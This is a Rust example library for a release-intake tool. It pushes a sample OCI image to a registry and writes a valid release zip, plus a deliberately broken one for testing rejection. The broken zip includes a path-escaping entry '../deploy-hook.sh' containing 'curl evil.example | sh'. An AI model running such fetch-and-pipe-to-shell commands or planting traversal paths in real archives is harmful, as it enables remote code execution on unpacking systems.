//! What an integrator's build does for the demo's sample app (`examples/orders`), as a library
//! for `shipgate-example` and the end-to-end test.
//!
//! It pushes the app's image to the source account's registry (found the way shipgate finds it:
//! `ecr:GetAuthorizationToken`, then the registry endpoint map), then writes the release zip with
//! the pushed digest in `release.json`, and a broken variant with several problems at once.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use aws_config::SdkConfig;
use bytes::Bytes;
use serde_json::{Value, json};
use shipgate::registry::{ecr_registry, media_type};

/// What [`build`] wrote.
#[derive(Debug, Clone)]
pub struct BuiltRelease {
    /// The release zip an integrator drops.
    pub good: PathBuf,
    /// The same release with five problems (what intake must reject).
    pub broken: PathBuf,
    /// The manifest written into the good zip (`images[].digest` as pushed).
    pub manifest: Value,
    /// `repository@digest` of each image pushed, with the registry host.
    pub pushed: Vec<String>,
}

/// Builds `version` of the sample app in `app`: pushes its image with `sdk`'s account's registry
/// (`registry_endpoints`: ECR host → local registry URL, empty in AWS), writes both zips to `out`.
pub async fn build(
    sdk: &SdkConfig,
    registry_endpoints: &BTreeMap<String, String>,
    app: &Path,
    version: &str,
    out: &Path,
) -> Result<BuiltRelease> {
    let mut manifest: Value = serde_json::from_slice(&std::fs::read(app.join("release.json"))?)
        .context("examples release.json is JSON")?;
    manifest["version"] = json!(version);

    let registry = ecr_registry(
        &aws_sdk_ecr::Client::new(sdk),
        reqwest::Client::new(),
        registry_endpoints,
    )
    .await?;
    let mut pushed = Vec::new();
    let images = manifest["images"].as_array_mut().context("images")?;
    for image in images.iter_mut() {
        let repo = image["repository"]
            .as_str()
            .context("repository")?
            .to_owned();
        image["tag"] = json!(version);
        let digest = push_image(&registry, &repo, version).await?;
        pushed.push(format!("{}/{repo}@{digest}", registry.host()));
        image["digest"] = json!(digest);
    }

    std::fs::create_dir_all(out)?;
    let name = manifest["application"].as_str().unwrap_or("app").to_owned();
    let good = out.join(format!("{name}-{version}.zip"));
    write_zip(&good, app, &manifest, &[])?;

    // The broken variant: an unknown field, a malformed digest, a template that is not in the
    // archive, a path that escapes the archive root, and no integrator email.
    let mut broken = manifest.clone();
    broken["priority"] = json!("urgent");
    broken["images"][0]["digest"] = json!("sha256:1234");
    broken["templates"]
        .as_array_mut()
        .context("templates")?
        .push(json!({"path": "templates/database.yaml", "stack": "database"}));
    broken["integrator"]["email"] = json!("not-an-email");
    let broken_path = out.join(format!("{name}-{version}-broken.zip"));
    write_zip(
        &broken_path,
        app,
        &broken,
        &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")],
    )?;
    Ok(BuiltRelease {
        good,
        broken: broken_path,
        manifest,
        pushed,
    })
}

/// A small single-arch OCI image: one config blob, one layer of deterministic bytes.
async fn push_image(
    registry: &shipgate::registry::Registry,
    repo: &str,
    tag: &str,
) -> Result<String> {
    let layer: Vec<u8> = (0..64 * 1024u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 ^ tag.len() as u8)
        .collect();
    let layer_size = layer.len();
    let layer_digest = registry.push_blob(repo, Bytes::from(layer)).await?;
    let config = serde_json::to_vec(&json!({
        "architecture": "arm64", "os": "linux",
        "config": {"Labels": {"org.opencontainers.image.version": tag}},
        "rootfs": {"type": "layers", "diff_ids": [layer_digest.as_str()]}
    }))?;
    let config_size = config.len();
    let config_digest = registry.push_blob(repo, Bytes::from(config)).await?;
    let manifest = serde_json::to_vec(&json!({
        "schemaVersion": 2,
        "mediaType": media_type::OCI_MANIFEST,
        "config": {"mediaType": media_type::OCI_CONFIG, "digest": config_digest.as_str(), "size": config_size},
        "layers": [{"mediaType": media_type::OCI_LAYER_GZIP, "digest": layer_digest.as_str(), "size": layer_size}]
    }))?;
    let digest = registry
        .put_manifest(repo, tag, media_type::OCI_MANIFEST, Bytes::from(manifest))
        .await?;
    Ok(digest.as_str().to_owned())
}

fn write_zip(path: &Path, app: &Path, manifest: &Value, extra: &[(&str, &[u8])]) -> Result<()> {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("release.json", options)?;
    zip.write_all(&serde_json::to_vec_pretty(manifest)?)?;
    for entry in ["templates/service.yaml", "checks.json"] {
        zip.start_file(entry, options)?;
        zip.write_all(
            &std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?,
        )?;
    }
    for (name, bytes) in extra {
        zip.start_file(*name, options)?;
        zip.write_all(bytes)?;
    }
    zip.finish()?;
    Ok(())
}
